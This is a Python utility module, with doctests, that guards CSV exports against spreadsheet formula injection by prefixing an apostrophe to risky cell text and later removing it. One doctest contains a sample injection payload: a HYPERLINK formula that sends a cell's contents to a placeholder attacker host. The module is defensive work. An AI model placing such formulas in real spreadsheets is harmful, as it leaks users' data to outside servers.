"""Text that a spreadsheet must never read as a formula (CSV/formula injection): the mark
the exports put on such a text, and how a reader of those files takes it off again.
Small and free of the data layer, for the table reader and the exports alike."""

from __future__ import annotations

import re

# What a spreadsheet may read as the start of a formula (OWASP, "CSV Injection"): = + - @,
# a tab or a carriage return; the same after leading whitespace, in case a spreadsheet
# skips it; and the full-width forms, which a spreadsheet set up for East Asian input may
# take for the ASCII ones. A text marked needlessly gains an apostrophe; one missed can leak.
_FORMULA_START = re.compile(r"[\t\r]|\s*[=+\-@\uff1d\uff0b\uff0d\uff20]")
# OWASP's advice: a leading apostrophe, which spreadsheets take to mean "this is text".
TEXT_MARK = "'"


def _reads_as_formula(text: str) -> bool:
    # Apostrophes already in front are looked through, so that a text which starts with
    # one gets a mark of its own and `restore_formula_text` can tell the two apart.
    return _FORMULA_START.match(text.lstrip(TEXT_MARK)) is not None


def neutralise_formula(text: str) -> str:
    r"""`text` as a spreadsheet cell that is never a formula: with a leading apostrophe
    when a spreadsheet could read it as one, otherwise as it is.

    >>> print(neutralise_formula('=HYPERLINK("http://evil.example/?x="&A1,"click")'))
    '=HYPERLINK("http://evil.example/?x="&A1,"click")
    >>> [neutralise_formula(text) for text in ("+47 22 00 00 00", "- punkt", "@SUM(A1)", "\tx", "\rx", " =1", "＝1")]
    ["'+47 22 00 00 00", "'- punkt", "'@SUM(A1)", "'\tx", "'\rx", "' =1", "'＝1"]
    >>> [neutralise_formula(text) for text in ("Arena Kystmat", "e-post", "", "'sitat'")]
    ['Arena Kystmat', 'e-post', '', "'sitat'"]

    A text that already starts with apostrophes before such a character gets one more, so
    that `restore_formula_text` can tell the mark from the text and undo exactly this:

    >>> neutralise_formula("'=1")
    "''=1"
    >>> texts = ("=1", "'=1", "''=1", "'x", "x", "- a", "")
    >>> [restore_formula_text(neutralise_formula(text)) for text in texts] == list(texts)
    True

    The trade-off: the mark is part of the text in the file. A story that starts with "- "
    (a bullet) or a phone number that starts with "+" is read back with the apostrophe by a
    reader that does not undo it, and some spreadsheets show it. Marking only what a
    spreadsheet would really parse as a formula would spare those texts, but that depends
    on the spreadsheet, its version and its locale; OWASP's plain rule does not.
    """
    return TEXT_MARK + text if _reads_as_formula(text) else text


def restore_formula_text(text: str) -> str:
    """The text `neutralise_formula` was given, from what it gave back: for a reader of the
    files written here.

    >>> restore_formula_text("'=1"), restore_formula_text("''=1"), restore_formula_text("'sitat'")
    ('=1', "'=1", "'sitat'")
    """
    if text.startswith(TEXT_MARK) and _reads_as_formula(text[len(TEXT_MARK):]):
        return text[len(TEXT_MARK):]
    return text
